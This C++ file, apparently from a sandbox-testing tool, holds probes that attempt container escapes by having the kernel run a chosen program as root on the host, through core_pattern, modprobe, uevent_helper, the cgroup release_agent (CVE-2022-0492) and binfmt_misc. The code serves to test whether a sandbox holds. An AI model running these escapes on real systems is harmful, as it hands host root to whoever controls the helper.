// Programs that the kernel starts by itself, as root, in the host's own namespaces: the attack names one of
// its own, and sees to it that the kernel needs it.
#include <fcntl.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cerrno>
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <cstring>

#include "probes/damage/harm.h"

namespace immure::probes {
namespace {

constexpr int kAWhile = 300'000;  // microseconds, for the kernel to start it

void helper_of(const Yard& yard, const char* before, char* text, size_t size) {
  std::snprintf(text, size, "%s%s%s", before, yard.folder, kHelper);
}

Attempt core_pattern(const Yard& yard, const Probe&) {
  char pattern[192];
  helper_of(yard, "|", pattern, sizeof pattern);
  if (!put("/proc/sys/kernel/core_pattern", pattern)) return stopped("core_pattern");
  pid_t child = fork();
  if (child == 0) {
    prctl(PR_SET_DUMPABLE, 1);
    signal(SIGSEGV, SIG_DFL);
    raise(SIGSEGV);
    _exit(1);
  }
  waitpid(child, nullptr, 0);
  return escaped("core_pattern took it");
}

// Of four bytes that no format begins with, the kernel makes the name of a module, and asks for it.
Attempt modprobe(const Yard& yard, const Probe&) {
  char helper[192], file[128];
  helper_of(yard, "", helper, sizeof helper);
  if (!put("/proc/sys/kernel/modprobe", helper)) return stopped("modprobe");
  if (!scratch_path(yard, "format", file, sizeof file)) return not_applicable("nothing is writable");
  int fd = open(file, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0700);
  if (fd < 0) return stopped("open");
  constexpr char kNoFormat[] = "\xff\xfe\xfd\xfc";
  (void)!write(fd, kNoFormat, sizeof kNoFormat);
  close(fd);
  pid_t child = fork();
  if (child == 0) {
    execl(file, file, nullptr);
    _exit(1);
  }
  waitpid(child, nullptr, 0);
  unlink(file);
  return escaped("the path of modprobe took it");
}

Attempt uevent_helper(const Yard& yard, const Probe&) {
  char helper[192];
  helper_of(yard, "", helper, sizeof helper);
  if (!put("/sys/kernel/uevent_helper", helper)) return stopped("uevent_helper");
  if (!put("/sys/class/mem/null/uevent", "change")) return stopped("uevent");
  return escaped("uevent_helper took it");
}

// A group that wants the agent when it is left, and a process that leaves it.
Attempt leave_a_group(const char* tree, const Yard& yard) {
  char path[320], group[256], helper[192];
  helper_of(yard, "", helper, sizeof helper);
  std::snprintf(path, sizeof path, "%s/release_agent", tree);
  if (!put(path, helper)) return stopped("release_agent");
  std::snprintf(group, sizeof group, "%s/immure-damage-%d", tree, getpid());
  if (mkdir(group, 0755) != 0) return stopped("mkdir");
  std::snprintf(path, sizeof path, "%s/notify_on_release", group);
  bool left = put(path, "1");
  pid_t child = fork();
  if (child == 0) {
    std::snprintf(path, sizeof path, "%s/cgroup.procs", group);
    _exit(put(path, "0") ? 0 : 1);
  }
  int status = 1;
  waitpid(child, &status, 0);
  usleep(kAWhile);
  rmdir(group);
  return left && status == 0 ? escaped("release_agent took it") : stopped("cgroup.procs");
}

// A tree of version 1 that has an agent: the first in which a controller is. Its name too, when asked for.
bool find_tree(char* tree, size_t size, char* controller) {
  FILE* mounts = std::fopen("/proc/self/mounts", "re");
  if (mounts == nullptr) return false;
  char line[1024], point[200], type[32], options[256];
  bool found = false;
  while (!found && std::fgets(line, sizeof line, mounts) != nullptr) {
    if (std::sscanf(line, "%*s %199s %31s %255s", point, type, options) != 3 ||
        std::strcmp(type, "cgroup") != 0)
      continue;
    const char* last = std::strrchr(options, ',');
    found = std::strstr(options, "memory") != nullptr;
    std::snprintf(tree, size, "%s", point);
    if (controller != nullptr) std::snprintf(controller, 64, "%.63s", last == nullptr ? options : last + 1);
  }
  std::fclose(mounts);
  return found;
}

Attempt release_agent(const Yard& yard, const Probe&) {
  char tree[200];
  if (!find_tree(tree, sizeof tree, nullptr)) return stopped("mounts", ENOENT);
  return leave_a_group(tree, yard);
}

bool become_root_of_own(int more) {
  char map[32];
  const unsigned user = geteuid(), group = getegid();
  if (unshare(CLONE_NEWUSER | CLONE_NEWNS | more) != 0) return false;
  std::snprintf(map, sizeof map, "0 %u 1", user);
  if (!put("/proc/self/uid_map", map) || !put("/proc/self/setgroups", "deny")) return false;
  std::snprintf(map, sizeof map, "0 %u 1", group);
  return put("/proc/self/gid_map", map) && mount(nullptr, "/", nullptr, MS_REC | MS_PRIVATE, nullptr) == 0;
}

// CVE-2022-0492. That root of a user namespace may not write the file without a jail is its mending.
Attempt release_agent_own(const Yard& yard, const Probe&) {
  const bool bare = in_callers_mounts(yard);
  char folder[128];
  if (!scratch_path(yard, "groups", folder, sizeof folder)) return not_applicable("nothing is writable");
  char tree[200], controller[64] = "memory";
  if (bare && !find_tree(tree, sizeof tree, controller)) return stopped("mounts", ENOENT);
  if (mkdir(folder, 0755) != 0) return stopped("mkdir");
  Attempt attempt;
  if (!become_root_of_own(CLONE_NEWCGROUP)) {
    attempt = stopped("unshare");
  } else if (mount("none", folder, "cgroup", 0, controller) != 0) {
    attempt = stopped("mount");
  } else {
    attempt = leave_a_group(folder, yard);
    if (bare && attempt.error == EPERM && std::strcmp(attempt.where, "release_agent") == 0)
      attempt = not_applicable("this kernel is mended: it takes no release agent in a user namespace");
    umount2(folder, MNT_DETACH);
  }
  rmdir(folder);
  return attempt;
}

// With the flag C whoever starts a program of that kind starts the interpreter with the program's rights.
Attempt binary_format(const Yard& yard, const Probe&) {
  char format[256];
  std::snprintf(format, sizeof format, ":immure-damage:E::immure-damage::%s%s:C", yard.folder, kHelper);
  return put("/proc/sys/fs/binfmt_misc/register", format) ? escaped("the register took it")
                                                          : stopped("binfmt_misc register");
}

constexpr uint32_t kBy = by(Layer::UserNs, Layer::Mounts, Layer::Root, Layer::Landlock);

constexpr Probe kKernelHelpers[] = {
    harm("damage-core-pattern", "have the kernel start a program at a crash",
         "Writes a program outside into core_pattern, and crashes. The kernel starts that program as root in "
         "the host's namespaces; it leaves a file where only root may.",
         "core(5)", kBy, core_pattern, "helper"),
    harm("damage-modprobe", "have the kernel start a program for a module",
         "Writes a program outside into kernel.modprobe, and starts a file of no known format, for which the "
         "kernel asks for a module. It then starts the program as root, outside.",
         "Documentation/admin-guide/sysctl/kernel.rst", kBy, modprobe, "helper"),
    harm(
        "damage-uevent-helper", "have the kernel start a program for a device",
        "Writes a program outside into /sys/kernel/uevent_helper, and asks for an event of a device. Kernels "
        "that still have the file start the program as root, outside.",
        "Documentation/ABI/testing/sysfs-kernel-uevent_helper", kBy, uevent_helper, "helper"),
    harm("damage-release-agent", "have the kernel start a program for a group",
         "Writes a program outside into the release agent of a tree of version 1, makes a group and leaves "
         "it. The kernel starts the program as root of the host.",
         "cgroups(7)", kBy, release_agent, "helper"),
    harm("damage-release-agent-own", "a release agent of an own mount, carried through",
         "Makes user, mount and group namespaces, mounts a tree of version 1 there, and has a program "
         "started by its release agent. Kernels before 5.17 asked for no rights over the host.",
         "CVE-2022-0492", by(Layer::Seccomp, Layer::UserNs, Layer::Landlock), release_agent_own, "helper"),
    harm("damage-binary-format", "register a binary format on the host",
         "Registers an interpreter outside for files of a certain name, with the rights of those files. "
         "Whoever on the host starts such a file starts the attacker's program.",
         "Documentation/admin-guide/binfmt-misc.rst", kBy, binary_format, "binary-format"),
};

}  // namespace

std::span<const Probe> kernel_helpers() { return kKernelHelpers; }

}  // namespace immure::probes
